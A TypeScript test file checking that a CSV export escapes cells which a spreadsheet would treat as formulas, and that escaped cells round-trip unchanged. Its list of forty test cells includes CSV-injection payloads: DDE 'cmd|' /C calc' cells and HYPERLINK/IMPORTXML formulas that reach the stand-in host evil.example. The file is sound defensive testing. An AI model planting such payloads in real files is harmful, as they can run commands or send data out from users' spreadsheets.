import { type FileRow } from "#server/data/tables/listChunkRow.ts";
import { Readable } from "node:stream";
import { text as readAll } from "node:stream/consumers";
import * as fc from "fast-check";
import { expect, test } from "vitest";
import { cleanCell } from "#listReader/input/cleanCell.ts";
import { guardCell, unguardCell } from "#listReader/input/guardCell.ts";
import { csvText } from "#server/lists/exports/csvText.ts";
import { fileOf, takeFile } from "#tests/listReader/readFile.ts";
import { csvRows } from "./csvRows.ts";

/** Cells that a spreadsheet would execute, cells that only look like it, and legal addresses. */
const cells = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","click")',
  '=IMPORTXML(CONCAT("http://evil.example"))',
  "+1+1",
  "+49 30 1234",
  "-1+1",
  "-2+3+cmd|' /C calc'!D2",
  "--1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\t",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "'=1+1",
  "''=1+1",
  "'+x@y.example",
  '"=1+1',
  "=",
  "+",
  "-",
  "@",
  "=a@b.example",
  "+x@y.example",
  "-x@y.example",
  "@x@y.example",
  "'",
  "''",
  "O'Hara",
  "'quoted'",
  " =1+1",
  "a=1+1",
  "1-2",
  "a;=1+1",
  "a,=1+1",
  "plain@b.example",
];
const unsafe = /^[=+\-@\t\r\n＝＋－＠]/u;

const rowOf = (row: string[]): FileRow => ({
  position: 1,
  line: 1,
  cells: row,
  counted: { kind: "check", email: null },
  result: null,
});

async function csvOf(rows: readonly string[][], raw: boolean): Promise<string> {
  const table = { header: ["a", "b"], keyOf: String, cellsOf: (row: FileRow) => row.cells };
  const source = (async function* () {
    yield rows.map(rowOf);
  })();
  return readAll(Readable.from(csvText(table, { rows: source, raw })));
}

// T43
test("of forty cells none begins as a formula, and every one comes back as it was", async () => {
  expect(cells.length).toBe(40);
  const rows = cells.map((cell) => [cell, "x"]);
  const text = await csvOf(rows, false);
  const written = csvRows(text).map(([cell = ""]) => cell);
  expect(written.filter((cell) => unsafe.test(cell))).toEqual([]);
  expect(
    text
      .replace("\uFEFF", "")
      .split("\r\n")
      .every((line) => line === "" || line.startsWith('"') || line.startsWith("=")),
  ).toBe(true);
  const taken = await takeFile(fileOf("again.csv", text), {
    email_column: 0,
    header: true,
    delimiter: ",",
  });
  expect(taken.refused).toBeUndefined();
  expect(taken.cells).toEqual(rows);
});

test("a raw download has the cells as they are", async () => {
  const rows = cells.map((cell) => [cell, "x"]);
  expect(csvRows(await csvOf(rows, true)).slice(1)).toEqual(rows);
});

test("any cell content is returned, and no written cell begins a formula", () => {
  const sign = fc.constantFrom("'", "=", "+", "-", "@", "\t", "\r", "＝", "a", " ");
  fc.assert(
    fc.property(fc.oneof(fc.string(), fc.string({ unit: sign })), (cell) => {
      const written = guardCell(cell);
      expect(unsafe.test(written)).toBe(false);
      expect(unguardCell(written)).toBe(cell);
    }),
    { numRuns: 3000 },
  );
});

test("addresses that begin like a formula are checked unchanged", async () => {
  const rows = ["=a@b.example", "+x@y.example"].map((cell) => [cell, "x"]);
  const { cells: found } = await takeFile(fileOf("a.csv", await csvOf(rows, false)), {
    header: true,
  });
  expect(found.map(([cell = ""]) => cleanCell(cell))).toEqual(["=a@b.example", "+x@y.example"]);
});
